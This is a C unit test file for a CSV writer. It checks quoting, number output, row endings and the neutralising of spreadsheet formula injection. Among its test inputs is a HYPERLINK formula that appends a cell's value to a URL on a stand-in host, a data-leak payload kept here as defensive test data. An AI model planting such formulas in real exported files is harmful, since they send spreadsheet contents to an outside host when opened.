/* test-csv.c
 *
 * Copyright 2026 The Secure Base authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <math.h>

#include "sb-csv.h"

static const struct
{
  const char *text;
  const char *field;
} fields[] = {
  { "plain", "plain" },
  { "two words", "two words" },
  { "", "" },
  { " apart ", " apart " },
  { "a,b", "\"a,b\"" },
  { "say \"no\"", "\"say \"\"no\"\"\"" },
  { "\"", "\"\"\"\"" },
  { "one\ntwo", "\"one\ntwo\"" },
  { "one\r\ntwo", "\"one\r\ntwo\"" },
  { "a;b\tc", "a;b\tc" },
  { "Zoë 🌊 שלום", "Zoë 🌊 שלום" },

  /* No formula comes out. */
  { "=1+1", "\"'=1+1\"" },
  { "+1", "\"'+1\"" },
  { "-1", "\"'-1\"" },
  { "@SUM(A1)", "\"'@SUM(A1)\"" },
  { "\t=1", "\"'\t=1\"" },
  { "\r=1", "\"'\r=1\"" },
  { "\n=1", "\"'\n=1\"" },
  { "＝1", "\"'＝1\"" },
  { "=HYPERLINK(\"http://x?\"&A1,\"y\")", "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"y\"\")\"" },
  { "- a list", "\"'- a list\"" },

  /* What stands later is no formula. */
  { "1=1", "1=1" },
  { "me@home", "me@home" },
  { "a-b", "a-b" },
  { "'quoted'", "'quoted'" },
};

static void
test_fields (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
    {
      g_autoptr (GString) csv = g_string_new (NULL);
      g_autofree char *expected = g_strdup_printf ("first,%s,last\r\n", fields[i].field);

      sb_csv_append_text (csv, "first");
      sb_csv_append_text (csv, fields[i].text);
      sb_csv_append_text (csv, "last");
      sb_csv_end_row (csv);
      g_assert_cmpstr (csv->str, ==, expected);
    }
}

static void
test_numbers (void)
{
  const struct
  {
    double number;
    const char *field;
  } rows[] = { { 4.2, "4.2" }, { 5, "5" }, { -1.5, "-1.5" }, { 17.0 / 8, "2.125" }, { 1000000, "1000000" }, { NAN, "" } };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (GString) csv = g_string_new (NULL);
      g_autofree char *expected = g_strdup_printf ("x,%s", rows[i].field);

      sb_csv_append_text (csv, "x");
      sb_csv_append_number (csv, rows[i].number);
      g_assert_cmpstr (csv->str, ==, expected);
    }
}

/* A field that ends as a row does, or has nothing, begins no new row. */
static void
test_rows (void)
{
  g_autoptr (GString) csv = g_string_new (NULL);

  sb_csv_append_text (csv, "");
  sb_csv_append_text (csv, "");
  sb_csv_end_row (csv);
  sb_csv_append_text (csv, "a\r\n");
  sb_csv_append_text (csv, "b");
  sb_csv_end_row (csv);
  sb_csv_append_text (csv, "c");
  sb_csv_end_row (csv);
  g_assert_cmpstr (csv->str, ==, "\"\",\r\n\"a\r\n\",b\r\nc\r\n");
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/fields", test_fields);
  g_test_add_func ("/csv/numbers", test_numbers);
  g_test_add_func ("/csv/rows", test_rows);

  return g_test_run ();
}
